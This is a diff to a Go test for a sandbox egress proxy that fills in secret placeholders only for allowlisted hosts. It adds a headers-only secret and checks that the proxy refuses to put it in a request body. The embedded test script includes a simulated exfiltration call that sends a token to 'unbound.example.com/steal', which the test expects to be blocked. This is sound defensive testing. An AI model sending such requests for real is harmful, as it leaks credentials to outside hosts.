@@ -20,7 +20,8 @@ import (
 
 // Secrets never enter the sandbox: code sees only {{secret:TOKEN}}; the
 // proxy puts the value into its HTTPS requests to the bound host (query,
-// header, body), which receives it; what the code prints, writes, reverses,
+// header, body, which TOKEN opted into), which receives it; HDR, left at
+// headers only, refuses a request that carries it in a body (session 36); what the code prints, writes, reverses,
 // dumps or encodes, what the server echoes back, and what it sends to an
 // unbound host hold only the placeholder.
 func TestSecretsThroughProxy(t *testing.T) {
@@ -39,7 +40,11 @@ func TestSecretsThroughProxy(t *testing.T) {
 	}))
 	defer srv.Close()
 	bound, _ := egress.ParseAllowlist([]string{"example.com"})
-	ic, err := egress.NewIntercept([]egress.Secret{{Name: "TOKEN", Placeholder: ph, Value: value, Hosts: bound}})
+	const hdrValue = "hdr-1a2b3c4d5e6f-REAL"
+	ic, err := egress.NewIntercept([]egress.Secret{
+		{Name: "TOKEN", Placeholder: ph, Value: value, Hosts: bound, InURL: true, InBody: true},
+		{Name: "HDR", Placeholder: "{{secret:HDR}}", Value: hdrValue, Hosts: bound},
+	})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -81,6 +86,8 @@ def call(url, data=None, auth=None):
 print("bound:", call("https://example.com/api?key={{secret:TOKEN}}", b'{"t":"{{secret:TOKEN}}"}', "Bearer {{secret:TOKEN}}"))
 print("unbound:", call("https://unbound.example.com/steal?key={{secret:TOKEN}}", None, "Bearer {{secret:TOKEN}}"))
 open("/workspace/response.txt", "w").write(call("https://example.com/file", b"{{secret:TOKEN}}"))
+print("hdr header:", call("https://example.com/hdr", None, "Bearer {{secret:HDR}}"))
+print("hdr body:", call("https://example.com/store", b'{"c":"{{secret:HDR}}"}', "Bearer {{secret:HDR}}"))
 PY
 curl -sS -g -H "Authorization: Bearer {{secret:TOKEN}}" "https://example.com/curl?key={{secret:TOKEN}}"; echo
 `
@@ -100,7 +107,10 @@ curl -sS -g -H "Authorization: Bearer {{secret:TOKEN}}" "https://example.com/cur
 	if strings.Contains(got, "unbound") || strings.Contains(got, "/steal") {
 		t.Errorf("the request to the unbound host reached a server:\n%s", got)
 	}
-	for _, want := range []string{"printed: " + ph, "bound: echo host=example.com uri=/api?key=" + ph, "unbound: HTTP 403", "SSL_CERT_FILE=/run/bulwark/ca-bundle.pem"} {
+	if !strings.Contains(got, "uri=/hdr auth=Bearer "+hdrValue) || strings.Contains(got, "/store") {
+		t.Errorf("HDR (headers only): the bound host received:\n%s\nwant its value in the header of /hdr, and no /store", got)
+	}
+	for _, want := range []string{"printed: " + ph, "bound: echo host=example.com uri=/api?key=" + ph, "unbound: HTTP 403", "hdr body: HTTP 403", "secret HDR", "SSL_CERT_FILE=/run/bulwark/ca-bundle.pem"} {
 		if !strings.Contains(out, want) {
 			t.Errorf("sandbox output lacks %q:\n%s", want, out)
 		}
@@ -108,6 +118,7 @@ curl -sS -g -H "Authorization: Bearer {{secret:TOKEN}}" "https://example.com/cur
 	// Nothing the code printed or wrote holds the value in any form.
 	forms := map[string]string{
 		"value":    value,
+		"hdr":      hdrValue,
 		"reversed": reverse(value),
 		"base64":   base64.StdEncoding.EncodeToString([]byte(value + "\n")),
 		"spaced":   strings.Join(strings.Split(value[:8], ""), "   "),
